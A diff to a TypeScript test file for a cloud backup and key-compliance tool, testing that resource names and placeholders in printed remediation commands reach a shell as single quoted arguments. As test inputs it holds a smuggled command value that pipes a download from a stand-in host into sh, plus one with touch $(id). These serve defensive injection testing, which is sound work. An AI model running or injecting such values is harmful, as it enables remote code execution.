@@ -6,6 +6,7 @@
 import { describe, expect, it } from 'vitest';
 import { unshareCommand } from '../../functions/actions/snapshot/aws.ts';
 import { backupPlanRefusal } from '../../functions/actions/snapshot/gcp.ts';
+import { keysChecks } from '../../functions/checks/keys/index.ts';
 import { keysNotDeletingCheck } from '../../functions/checks/keys/not-deleting.ts';
 import { keysReplicatedCheck } from '../../functions/checks/keys/replicated.ts';
 import {
@@ -14,13 +15,21 @@ import {
   replicasRekeyed,
 } from '../../functions/checks/keys/wording.ts';
 import { pitrCrossRegionCheck } from '../../functions/checks/pitr/cross-region.ts';
+import { pitrChecks } from '../../functions/checks/pitr/index.ts';
+import { pitrRetentionCheck } from '../../functions/checks/pitr/retention.ts';
 import { refusalNotOfPermission } from '../../functions/core/errors.ts';
 import { backupConfigurationCommand, backupPlanAssociationsCommand } from '../../functions/core/facts.ts';
 import type { KeySecretFact } from '../../functions/core/key-facts.ts';
 import { gcloudVersionArgs, kmsKeyFix } from '../../functions/core/kms-key-states.ts';
 import { parsePolicy } from '../../functions/core/policy.ts';
 import { snapshotGate } from '../../functions/jobs/readiness.ts';
-import { auroraClusterFact, cloudSqlFact, contextWith, daysAgo } from '../checks/pitr/fixtures.ts';
+import {
+  auroraClusterFact,
+  cloudSqlFact,
+  contextWith,
+  daysAgo,
+  rdsInstanceFact,
+} from '../checks/pitr/fixtures.ts';
 
 /** A name with a quote, a command substitution, a `;` and spaces; and one fit for a path segment. */
 const HOSTILE = "db-1; curl https://x.invalid/$(id) | sh #'";
@@ -29,7 +38,8 @@ const SEGMENT = "k; touch $(id) 'q'";
 /**
  * The words a POSIX shell splits `command` into (quotes and backslashes, no expansion): enough to
  * tell whether a name reaches the command as one argument. An unquoted `;`, `|`, `&`, `$(`, a
- * backtick or `#` would make the shell run or drop something, so the splitter refuses them.
+ * backtick or `#` would make the shell run or drop something, and an unquoted `<` or `>` would read a
+ * file or create (and empty) one named by the next word, so the splitter refuses them.
  */
 function shellWords(command: string): string[] {
   const words: string[] = [];
@@ -53,7 +63,7 @@ function shellWords(command: string): string[] {
     } else if (c === '\\') {
       word = (word ?? '') + command.charAt(i + 1);
       i++;
-    } else if (/[;|&`$#<>()]/.test(c) && !(c === '<' || c === '>')) {
+    } else if (/[;|&`$#<>()]/.test(c)) {
       throw new Error(`unquoted ${c} in ${command}`);
     } else {
       word = (word ?? '') + c;
@@ -276,5 +286,60 @@ const cases: ReadonlyArray<readonly [string, () => string | undefined, string]> 
 describe('a name from an answer in a printed command', () => {
   it.each(cases)('%s: reaches the shell as one argument', (_, print, name) => {
     expectOneArgument(print(), name);
+  });
+});
+
+/**
+ * A placeholder a reader replaces (`<destination-region>`, the ARN of an instance whose ARN was not
+ * sent) may still be pasted as it is: written bare, its `<` reads a file and its `>` creates (and
+ * empties) one named by the next word. Each must be a quoted word, so the command fails harmlessly.
+ */
+const placeholderTexts: ReadonlyArray<readonly [string, () => string | undefined]> = [
+  [
+    'cross-region: an RDS instance without its ARN',
+    () => {
+      const base = rdsInstanceFact();
+      return pitrCrossRegionCheck.evaluate(
+        { ...base, resource: { ...base.resource, arn: undefined } } as never,
+        contextWith(REQUIRE),
+      )?.remediationText;
+    },
+  ],
+  [
+    'cross-region: a Cloud SQL location',
+    () => pitrCrossRegionCheck.evaluate(cloudSqlFact(), contextWith(REQUIRE))?.remediationText,
+  ],
+  ['kms: a custom key store', () => kmsKeyFix({ id: 'k', state: 'Unavailable' })],
+  ['kms: import material again', () => kmsKeyFix({ id: 'k', state: 'PendingImport' })],
+  ['keys: enable a version not read', () => gcloudEnableLatest(secretFact('projects/p/secrets/s'))],
+  ['keys: add a version', () => gcloudAddVersion(secretFact('projects/p/secrets/s'))],
+  [
+    'errors: a Google API not enabled, service unknown',
+    () => refusalNotOfPermission({ reason: 'SERVICE_DISABLED' }, { project: 'p' }),
+  ],
+  ...[...keysChecks, ...pitrChecks].flatMap((check) =>
+    [check.metadata.remediation.text, ...Object.values(check.metadata.remediation.texts ?? {})].map(
+      (text) => [`catalog: ${check.metadata.id}`, () => text] as const,
+    ),
+  ),
+];
+
+describe('a placeholder in a printed command', () => {
+  it.each(placeholderTexts)('%s: is one quoted word, never a redirection', (_, print) => {
+    const commands = commandsIn(print() ?? '');
+    for (const command of commands) expect(() => shellWords(command), command).not.toThrow();
+  });
+
+  it('some of the printed commands hold placeholders', () => {
+    const all = placeholderTexts.flatMap(([, print]) => commandsIn(print() ?? ''));
+    expect(all.filter((command) => command.includes('<')).length).toBeGreaterThan(5);
+  });
+
+  it('the Enterprise Plus upgrade names its tier as a placeholder', () => {
+    const fact = cloudSqlFact({}, { edition: 'ENTERPRISE' } as never);
+    const text =
+      pitrRetentionCheck.evaluate(fact, contextWith({ pitr: { minPitrDays: 30 } }))?.remediationText ?? '';
+    expect(text).toContain('--tier=');
+    for (const command of commandsIn(text)) expect(() => shellWords(command), command).not.toThrow();
   });
 });
